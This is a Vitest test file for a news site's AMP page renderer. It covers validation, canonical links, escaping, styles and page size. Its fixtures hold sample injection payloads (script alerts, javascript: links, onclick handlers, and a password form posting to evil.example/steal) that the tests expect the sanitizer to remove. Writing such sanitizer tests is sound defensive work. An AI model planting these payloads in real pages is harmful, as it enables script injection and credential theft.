import { gzipSync } from "node:zlib";
import { describe, expect, it } from "vitest";
import { renderDocuments } from "../../src/build/documents.ts";
import { DOCUMENTS } from "../support/documents.ts";
import type { Corpus } from "../../src/model.ts";
import { renderAmpPage } from "../../src/render/amp-page.ts";
import { validateAmp } from "../support/amp-validator.ts";
import { fixtureCorpus, frontMatter } from "../support/corpus.ts";
import { elementsIn, type Element } from "../support/elements.ts";
import { readableText } from "../support/text.ts";

const SEED_AMP = "/articles/ambassador-xing-suggests-linking-moon-xi-initiatives/amp";

/** Raw HTML an author could write in Markdown and AMP forbids, one kind per paragraph. */
const HOSTILE_BODY = `Opening paragraph.

<script>alert("script")</script>

<iframe src="https://evil.example/frame" width="600" height="400"></iframe>

<p onclick="steal()" style="color:red">Clickable paragraph.</p>

[A javascript link](javascript:alert(1)) and <a href="javascript:alert(2)">another</a>.

<figure>
<img src="https://img.example/photo.jpg" alt="No size given">
<figcaption>Caption of an image without dimensions. <span class="credit">Photo: Nobody</span></figcaption>
</figure>

<form action="https://evil.example/steal"><input name="password"><button>Log in</button></form>

<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/y.swf">

<nav><a href="https://news.example.org/">Home</a></nav>

<div style="position:fixed" onmouseover="x()">Closing paragraph.</div>
`;

const VARIED_BODY = `Intro with a [link](https://example.com/a) and *emphasis*.

## A subheading

<figure>
<img src="https://img.example/harbour.jpg" alt="A harbour at dawn" width="1200" height="800">
<figcaption>The harbour. <span class="credit">Photo: Jane Roe</span></figcaption>
</figure>

<figure>
<figcaption>A photo that was never delivered. <span class="credit">Yonhap</span></figcaption>
</figure>

![A Markdown image has no dimensions](https://img.example/inline.png)

> A quotation.

1. First
2. Second

| Year | Trade |
|------|-------|
| 2020 | $300 billion |

\`\`\`ts
const x = 1 < 2;
\`\`\`

Last line.
`;

function fixtures(): Corpus {
  return fixtureCorpus([
    { frontMatter: frontMatter(1, { slug: "hostile", title: "Hostile raw HTML" }), body: HOSTILE_BODY },
    {
      frontMatter: frontMatter(2, { slug: "varied", author: "Jane Roe", updated: "2024-03-05T10:00:00Z", published: "2024-03-01T08:00:00Z" }),
      body: VARIED_BODY,
    },
    {
      frontMatter: frontMatter(3, { slug: "escapes", title: `<script>alert(1)<script> & "quotes" <b>`, author: "O'Brien </script><x>" }),
      body: "Body.",
    },
  ]);
}

function ampPage(corpus: Corpus, slug: string): string {
  const article = corpus.articles.find((a) => a.slug === slug)!;
  return renderAmpPage(corpus.site, article);
}

const named = (elements: Element[], name: string) => elements.filter((e) => e.name === name);

describe("the AMP page", () => {
  it("of every article built from content/ passes the official AMP validator", async () => {
    const paths = [...DOCUMENTS.keys()].filter((path) => path.endsWith("/amp"));
    expect(paths).toContain(SEED_AMP);
    for (const path of paths) {
      const { status, errors, warnings } = await validateAmp(DOCUMENTS.get(path)!.body);
      if (warnings.length > 0) console.warn(`AMP validator warnings for ${path}:`, warnings);
      expect(errors, path).toEqual([]);
      expect(status, path).toBe("PASS");
    }
  });

  it.each(["hostile", "varied", "escapes"])("of the fixture article %s passes the official AMP validator", async (slug) => {
    const { status, errors, warnings } = await validateAmp(ampPage(fixtures(), slug));
    if (warnings.length > 0) console.warn(`AMP validator warnings for ${slug}:`, warnings);
    expect(errors).toEqual([]);
    expect(status).toBe("PASS");
  });

  it("is served for every article, next to its canonical page", () => {
    const corpus = fixtures();
    const resources = renderDocuments(corpus, { icon: "<svg/>" });
    for (const article of corpus.articles) {
      const amp = resources.get(`/articles/${article.slug}/amp`);
      expect(amp?.body).toBe(renderAmpPage(corpus.site, article));
      expect(amp?.contentType).toBe("text/html; charset=utf-8");
      expect(amp?.cacheClass).toBe("page");
      expect(amp?.lastModified).toBe(article.updated.toUTCString());
    }
  });

  it("is AMP HTML: the ⚡ attribute, the language, the runtime and nothing else that runs", () => {
    const page = ampPage(fixtures(), "hostile");
    expect(page).toMatch(/^<!doctype html>\n<html ⚡ lang="en">/);
    const scripts = named(elementsIn(page), "script");
    expect(scripts.map((s) => s.attribs)).toEqual([
      { async: "", src: "https://cdn.ampproject.org/v0.js" },
      { type: "application/ld+json" },
    ]);
  });

  it("removes every kind of forbidden raw HTML and keeps the text around it", () => {
    const page = ampPage(fixtures(), "hostile");
    const elements = elementsIn(page);
    const names = new Set(elements.map((e) => e.name));
    for (const name of ["iframe", "form", "input", "button", "object", "embed", "nav", "img", "amp-img"]) {
      expect(names.has(name), name).toBe(false);
    }
    for (const element of elements) {
      const attributes = Object.keys(element.attribs);
      expect(attributes.filter((a) => a.startsWith("on") || a === "style"), element.name).toEqual([]);
      for (const url of [element.attribs["href"], element.attribs["src"]]) {
        if (url !== undefined) expect(url, element.name).toMatch(/^https:\/\//);
      }
    }
    const text = readableText(page);
    for (const kept of ["Opening paragraph.", "Clickable paragraph.", "A javascript link and another", "Closing paragraph."]) {
      expect(text).toContain(kept);
    }
    expect(text).toContain("Caption of an image without dimensions. Photo: Nobody");
    // The body sanitizer removed the form's controls and unwrapped the <nav> (a page has one
    // navigation, the site's), keeping its link as part of the text.
    for (const gone of ["alert", "steal", "Log in"]) expect(text).not.toContain(gone);
    expect(text).toContain("Home Closing paragraph.");
    expect(named(elementsIn(page), "nav")).toEqual([]);
  });

  it("shows an image with dimensions as a responsive amp-img and keeps captions whose image is missing", () => {
    const page = ampPage(fixtures(), "varied");
    expect(named(elementsIn(page), "amp-img").map((e) => e.attribs)).toEqual([
      { src: "https://img.example/harbour.jpg", width: "1200", height: "800", layout: "responsive", alt: "A harbour at dawn" },
    ]);
    expect(named(elementsIn(page), "figcaption")).toHaveLength(2);
    expect(page).toContain('A photo that was never delivered. <span class="credit">Yonhap</span>');
  });

  it("carries headline, byline, both dates as <time datetime>, subheadings and the body", () => {
    const page = ampPage(fixtures(), "varied");
    const elements = elementsIn(page);
    expect(named(elements, "h1")).toHaveLength(1);
    expect(page).toContain("<h1>Article number 2</h1>");
    expect(page).toContain("<h2>A subheading</h2>");
    expect(readableText(page)).toContain("By Jane Roe");
    expect(named(elements, "time").map((e) => e.attribs["datetime"])).toEqual(["2024-03-01T08:00:00.000Z", "2024-03-05T10:00:00.000Z"]);
    const text = readableText(page);
    for (const kept of ["Intro with a link and emphasis", "A quotation.", "Second", "$300 billion", "const x = 1 < 2;", "Last line."]) {
      expect(text).toContain(kept);
    }
  });

  it("has no site navigation: no header, nav or footer, and no link but those in the article's own text", () => {
    const page = ampPage(fixtures(), "varied");
    const elements = elementsIn(page);
    for (const name of ["nav", "header", "footer", "form"]) expect(named(elements, name), name).toEqual([]);
    expect(named(elements, "a").map((e) => e.attribs["href"])).toEqual(["https://example.com/a"]);
  });

  it("links back to the absolute canonical URL, and the canonical page links to it with rel=amphtml", () => {
    const corpus = fixtures();
    const resources = renderDocuments(corpus, { icon: "<svg/>" });
    for (const article of corpus.articles) {
      const links = (path: string, rel: string) =>
        named(elementsIn(resources.get(path)!.body), "link").filter((l) => l.attribs["rel"] === rel).map((l) => l.attribs["href"]);
      expect(links(`/articles/${article.slug}/amp`, "canonical")).toEqual([`https://news.example.org/articles/${article.slug}`]);
      expect(links(`/articles/${article.slug}`, "amphtml")).toEqual([`https://news.example.org/articles/${article.slug}/amp`]);
    }
  });

  it("escapes the headline and author wherever they appear", () => {
    const page = ampPage(fixtures(), "escapes");
    expect(named(elementsIn(page), "script")).toHaveLength(2);
    expect(named(elementsIn(page), "b")).toHaveLength(0);
    expect(readableText(page)).toContain(`<script>alert(1)<script> & "quotes" <b>`);
    expect(readableText(page)).toContain("By O'Brien </script><x>");
  });

  it("has one <style amp-custom>, far below AMP's 75,000-byte cap, and no inline styles", () => {
    const page = ampPage(fixtures(), "varied");
    const elements = elementsIn(page);
    const styles = named(elements, "style");
    expect(styles.filter((s) => "amp-custom" in s.attribs)).toHaveLength(1);
    expect(styles.filter((s) => !("amp-custom" in s.attribs) && !("amp-boilerplate" in s.attribs))).toEqual([]);
    const css = page.slice(page.indexOf("<style amp-custom>") + "<style amp-custom>".length, page.indexOf("</style>"));
    expect(Buffer.byteLength(css)).toBeLessThan(5_000);
    expect(elements.filter((e) => "style" in e.attribs)).toEqual([]);
  });

  it("is at most 14 KB gzipped for the seed article", () => {
    const body = DOCUMENTS.get(SEED_AMP)!.body;
    expect(gzipSync(body).byteLength).toBeLessThanOrEqual(14 * 1024);
  });

  it("is the same bytes on every build", () => {
    expect(ampPage(fixtures(), "varied")).toBe(ampPage(fixtures(), "varied"));
  });
});
